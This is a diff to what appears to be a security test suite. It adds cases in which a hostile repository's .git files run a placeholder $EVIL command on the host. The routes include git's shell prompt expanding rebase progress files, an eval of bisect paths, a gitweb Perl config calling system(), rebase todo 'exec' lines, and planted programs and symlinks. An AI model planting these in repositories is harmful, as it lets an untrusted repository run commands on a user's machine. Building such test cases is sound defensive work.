@@ -44,6 +44,14 @@ BRANCH = (
     config() + " > bare/config; git add bare; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x; git commit -qm other; ")
 AWAY = "git checkout -q main; rm -rf bare x; "
 CHECKOUT = "git checkout -q other; git status; git status"
+# Git's own prompt (PROMPT_COMMAND='__git_ps1 "\\w" "\\$ "') has bash expand what the files hold that say how far a rebase is.
+PROMPT = "bash -c '. $(git --exec-path)/git-sh-prompt; __git_ps1 before after; echo \"${PS1@P}\"'"
+# What git before 2.34 does with the paths of a bisection.
+OLD_BISECT = "set git log; eval '\"$@\"' --bisect -- $(cat .git/BISECT_NAMES)"
+# Ways to write such a file.
+NUMBERS = r"""number() { mkdir -p ${1%/*}; echo refs/heads/main > ${1%/*}/head-name; text="\$($EVIL); $EVIL"; echo 1 > v; mv v $1; echo "$text" >> $1
+echo "$text" > t; mv t $1; exec 7>$1; echo "$text" >&7; exec 7>&-; rm -f $1; ln -s $PWD/u $1; rm -f $1; echo "$text" > u; ln -f u $1; echo "$text" > $1; }
+"""
 # An index is a list of paths, which `git checkout .` and `git restore .` make on the host without a second look.
 INDEX = f"""cat > i.py <<'END'
 import os
@@ -198,6 +206,27 @@ ATTACKS = {
         "GIT_SEQUENCE_EDITOR='sed -i s/pick/edit/' git rebase -q -i HEAD~1; echo \"exec $EVIL\" >> "
         ".git/rebase-merge/git-rebase-todo; echo \"x $EVIL\" > t; mv t .git/rebase-merge/git-rebase-todo",
         "git rebase --continue", "", ""),
+    "how far a rebase is, in the prompt": (
+        REPO, NUMBERS + "number .git/rebase-merge/msgnum; echo 3 > .git/rebase-merge/end", PROMPT, "", ""),
+    "of how many, in the prompt": (
+        REPO, NUMBERS + "number .git/rebase-merge/end; echo 3 > .git/rebase-merge/msgnum", PROMPT, "", ""),
+    "how far an am is, in the prompt": (
+        REPO, NUMBERS + "number .git/rebase-apply/next; number .git/rebase-apply/last", PROMPT, "", ""),
+    "how far a nested rebase is, in the prompt": (
+        REPO, NUMBERS + "git init -q n; number n/.git/r/msgnum; echo 3 > n/.git/r/end; mv n/.git/r n/.git/rebase-merge; "
+        "number n/.git/rebase-merge/msgnum", PROMPT, "n", ""),
+    "a bisection's paths": (
+        REPO, NUMBERS + "number .git/BISECT_NAMES", OLD_BISECT, "", ""),
+    "a server's program": (
+        REPO, "mkdir .git/gitweb; cp $P .git/gitweb/x-lighttpd; cp $P s; mv s .git/gitweb/x-lighttpd; mkdir g; cp $P g/x-lighttpd; "
+        "chmod 755 .git/gitweb/* g/*; rmdir .git/gitweb; mv g .git/gitweb", "timeout 2 git instaweb --httpd=x-lighttpd --local", "", ""),
+    "a server's settings": (
+        REPO, "mkdir -p .git/gitweb; echo \"system('$EVIL');\" > t; cp t .git/gitweb/gitweb_config.perl; mv t .git/gitweb/gitweb_config.perl",
+        "perl -e 'do \"./.git/gitweb/gitweb_config.perl\"'", "", ""),
+    "links where programs beside git write": (
+        REPO, OUT + "ln -s $OUT .git/gitk.cache; ln -s ${OUT%/ran} .git/filter-repo; ln -s ${OUT%/ran} .git/gitweb; mkdir .git/annex; ln -s ${OUT%/ran} "
+        ".git/annex/x; echo 1 > .git/pid && ln -s $OUT .git/fsmonitor--daemon",
+        "for f in gitk.cache filter-repo/ran gitweb/ran annex/x/ran; do echo > .git/$f; done; test -e .git/pid && touch $HOME/ran", "", ""),
     "a rebase that the host began": (
         REPO + "echo b > b; git add b; git commit -qm two; GIT_SEQUENCE_EDITOR='sed -i s/pick/edit/' git rebase -q -i HEAD~1; ",
         "echo \"exec $EVIL\" >> .git/rebase-merge/git-rebase-todo; echo \"exec $EVIL\" > t; "
